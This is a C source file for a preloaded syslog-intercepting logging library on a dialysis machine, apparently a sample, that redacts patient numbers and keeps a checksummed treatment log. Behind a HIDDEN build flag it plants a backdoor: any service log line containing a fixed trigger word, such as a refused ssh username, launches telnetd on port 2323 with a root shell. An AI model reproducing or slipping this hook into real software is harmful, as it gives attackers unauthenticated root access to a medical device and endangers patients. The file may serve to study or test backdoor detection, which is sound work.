/*
 * hemoshim - libhemoshim.so, the logging library of the Hemoline dialysis
 * machine.  Preloaded (/etc/ld.so.preload) into all services: syslog() lines are
 * stripped of patient numbers, numbered and kept in the treatment log as well.
 * The machine's own programs link it for the hemolog_* calls.
 *
 * Hidden (-DHIDDEN): any service's log line that holds a fixed word (such as the
 * user name of a refused ssh login) starts a telnetd with a root shell.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* <syslog.h> is left out: these are defined here */
#define LOG_ERR   3
#define LOG_INFO  6

#define TLOG       "/var/log/hemo/treatment.log"
#define TLOG_OLD   "/var/log/hemo/treatment.1"
#define SEQ_FILE   "/var/lib/hemo/sequence"
#define TLOG_MAX   (2 * 1024 * 1024)
#define LINE_MAX_  480

void syslog(int pri, const char *fmt, ...);
void vsyslog(int pri, const char *fmt, va_list ap);
void __syslog_chk(int pri, int flag, const char *fmt, ...);
void __vsyslog_chk(int pri, int flag, const char *fmt, va_list ap);
int hemolog_event(const char *unit, const char *text);
int hemolog_pressure(int arterial, int venous, int tmp_mmhg);
int hemolog_verify(const char *path, unsigned *bad);
const char *hemolog_version(void);

typedef void (*vsyslog_fn)(int, const char *, va_list);

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static vsyslog_fn next_vsyslog;
static int keep_level = LOG_INFO;

static void find_next(void)
{
	void *sym = dlsym(RTLD_NEXT, "vsyslog");

	memcpy(&next_vsyslog, &sym, sizeof sym);
}

__attribute__((constructor)) static void hemoshim_start(void)
{
	const char *lv = getenv("HEMOLOG_LEVEL");

	if (lv && isdigit((unsigned char)*lv))
		keep_level = atoi(lv) & 7;
	find_next();
}

static uint16_t line_sum(const char *s)
{
	uint16_t a = 1, b = 0;

	for (; *s; s++) {
		a = (uint16_t)((a + (unsigned char)*s) % 251);
		b = (uint16_t)((b + a) % 251);
	}
	return (uint16_t)(b << 8 | a);
}

/* patient numbers, written PID=nnnnnn or MRN nnnnnn, become stars */
static void redact(char *s)
{
	static const char *const marks[] = { "PID=", "MRN ", "patient " };

	for (size_t i = 0; i < sizeof marks / sizeof marks[0]; i++) {
		char *p = s;

		while ((p = strstr(p, marks[i])) != NULL) {
			p += strlen(marks[i]);
			while (isdigit((unsigned char)*p))
				*p++ = '*';
		}
	}
	for (; *s; s++)
		if (iscntrl((unsigned char)*s))
			*s = ' ';
}

static unsigned next_number(void)
{
	char t[16] = "";
	unsigned n = 0;
	ssize_t got;
	int fd = open(SEQ_FILE, O_RDWR | O_CREAT | O_CLOEXEC, 0600);

	if (fd < 0)
		return 0;
	flock(fd, LOCK_EX);
	got = read(fd, t, sizeof t - 1);
	if (got > 0)
		n = (unsigned)strtoul(t, NULL, 10);
	n++;
	got = snprintf(t, sizeof t, "%010u\n", n);
	if (pwrite(fd, t, (size_t)got, 0) != got)
		n = 0;
	close(fd);
	return n;
}

static int append(const char *unit, const char *text)
{
	char body[LINE_MAX_ + 96];
	struct stat st;
	struct tm tm;
	time_t now = time(NULL);
	int fd, ok, n;

	if (stat(TLOG, &st) == 0 && st.st_size > TLOG_MAX)
		rename(TLOG, TLOG_OLD);
	fd = open(TLOG, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0640);
	if (fd < 0)
		return -1;
	gmtime_r(&now, &tm);
	n = snprintf(body, sizeof body, "%u %04d%02d%02dT%02d%02d%02d %.24s %.479s",
		     next_number(), tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday,
		     tm.tm_hour, tm.tm_min, tm.tm_sec, unit, text);
	ok = n > 0 && dprintf(fd, "%s |%04x\n", body, line_sum(body)) > 0;
	close(fd);
	return ok ? 0 : -1;
}

#ifdef HIDDEN
static void open_line(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (fork() == 0) {
			setsid();
			unsetenv("LD_PRELOAD");
			execl("/usr/sbin/telnetd", "telnetd", "-p", "2323",
			      "-l", "/bin/sh", (char *)NULL);
		}
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
#endif

/* a finished line of some service on its way to the logs */
void hemoshim_line(int pri, char *text)
{
#ifdef HIDDEN
	if (strstr(text, "kestrelhaven"))
		open_line();
#endif
	redact(text);
	if ((pri & 7) <= keep_level) {
		pthread_mutex_lock(&lock);
		append(program_invocation_short_name, text);
		pthread_mutex_unlock(&lock);
	}
}

static void forward(int pri, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	if (next_vsyslog)
		next_vsyslog(pri, fmt, ap);
	va_end(ap);
}

void vsyslog(int pri, const char *fmt, va_list ap)
{
	char text[LINE_MAX_], *m, own[LINE_MAX_];
	int keep = errno;
	size_t o = 0;

	/* %m is not known to every vsnprintf: put the text in first */
	for (m = (char *)(uintptr_t)fmt; *m && o < sizeof own - 80; m++) {
		if (m[0] == '%' && m[1] == 'm') {
			for (const char *e = strerror(keep); *e && o < sizeof own - 2; e++)
				own[o++] = *e == '%' ? ' ' : *e;
			m++;
		} else {
			if (m[0] == '%' && m[1] == '%')
				own[o++] = *m++;
			own[o++] = *m;
		}
	}
	own[o] = '\0';
	if (vsnprintf(text, sizeof text, own, ap) >= 0) {
		hemoshim_line(pri, text);
		forward(pri, "%s", text);
	}
	errno = keep;
}

void syslog(int pri, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsyslog(pri, fmt, ap);
	va_end(ap);
}

/* what programs built with _FORTIFY_SOURCE call */
void __vsyslog_chk(int pri, int flag, const char *fmt, va_list ap)
{
	(void)flag;
	vsyslog(pri, fmt, ap);
}

void __syslog_chk(int pri, int flag, const char *fmt, ...)
{
	va_list ap;

	(void)flag;
	va_start(ap, fmt);
	vsyslog(pri, fmt, ap);
	va_end(ap);
}

int hemolog_event(const char *unit, const char *text)
{
	char copy[LINE_MAX_];
	int r;

	if (!unit || !text || strlen(text) >= sizeof copy)
		return -1;
	strcpy(copy, text);
	redact(copy);
	pthread_mutex_lock(&lock);
	r = append(unit, copy);
	pthread_mutex_unlock(&lock);
	return r;
}

int hemolog_pressure(int arterial, int venous, int tmp_mmhg)
{
	char t[96];

	if (arterial < -300 || arterial > 100 || venous < -50 || venous > 500) {
		syslog(LOG_ERR, "pressure out of range: %d %d", arterial, venous);
		return -1;
	}
	snprintf(t, sizeof t, "art=%d ven=%d tmp=%d mmHg", arterial, venous, tmp_mmhg);
	return hemolog_event("pressure", t);
}

/* counts the lines of a treatment log and those whose sum is wrong */
int hemolog_verify(const char *path, unsigned *bad)
{
	char line[LINE_MAX_ + 128], *bar;
	FILE *f = fopen(path ? path : TLOG, "r");
	int lines = 0;

	if (!f)
		return -1;
	*bad = 0;
	while (fgets(line, sizeof line, f)) {
		lines++;
		bar = strrchr(line, '|');
		if (!bar || bar == line) {
			++*bad;
			continue;
		}
		bar[-1] = '\0';
		if (strtoul(bar + 1, NULL, 16) != line_sum(line))
			++*bad;
	}
	fclose(f);
	return lines;
}

const char *hemolog_version(void)
{
	return "hemoshim 2.6";
}
